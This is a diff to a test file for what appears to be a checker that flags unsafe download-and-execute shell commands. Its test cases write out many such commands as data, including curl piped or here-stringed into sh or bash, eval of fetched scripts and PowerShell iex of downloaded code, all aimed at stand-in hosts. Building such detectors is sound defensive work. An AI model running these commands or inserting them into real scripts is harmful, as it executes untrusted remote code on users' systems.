@@ -187,12 +187,26 @@ describe('downloads', () => {
     'curl -fsSLO https://x.example/x && echo "1 x" | sha512sum --check && ./x',
     'curl -fsSLo x https://x.example/x && curl -fsSLo x.sig https://x.example/x.sig && gpg --batch --verify x.sig x',
     'wget --spider https://x.example/',
+    'x=$(curl -fsSL https://x.example/v) && sh -c "echo $x"',
+    'x=$(curl -fsSL https://x.example/v); y=1; sh -c "$y"',
+    `php -r "copy('https://x.example/i', 'i');" && php -r "exit(hash_file('sha384', 'i') === 'abc' ? 0 : 1);" && php i`,
+    `php -r "copy('a', 'b');"`,
+    'cat <<< "$(curl -fsSL https://x.example/v)"',
   ])('%s passes', (command) => {
     expect(run(command)).toEqual([]);
   });
 
   test.each([
     'curl -fsSL https://x.example/i | sh',
+    'sh <<< "$(curl -fsSL https://x.example/i)"',
+    'x=$(curl -fsSL https://x.example/i); sh -c "$x"',
+    'x="$(curl -fsSL https://x.example/i)" && eval "$x"',
+    'x=$(curl -fsSL https://x.example/i) && echo "$x" | bash',
+    'x=$(curl -fsSL https://x.example/i) && bash <<< "$x"',
+    `php -r "copy('https://getcomposer.example/installer', 'setup.php');" && php setup.php`,
+    `python3 -c "import urllib.request as r; r.urlretrieve('https://x.example/i', 'i')"`,
+    `powershell -Command "iex ((New-Object System.Net.WebClient).DownloadString('https://x.example/i.ps1'))"`,
+    'irm https://x.example/i.ps1 | iex',
     'curl -fsSL https://x.example/i | tee /tmp/i | bash',
     'curl -fsSL https://x.example/i | FOO=bar bash -',
     'eval "$(curl -fsSL https://x.example/i)"',
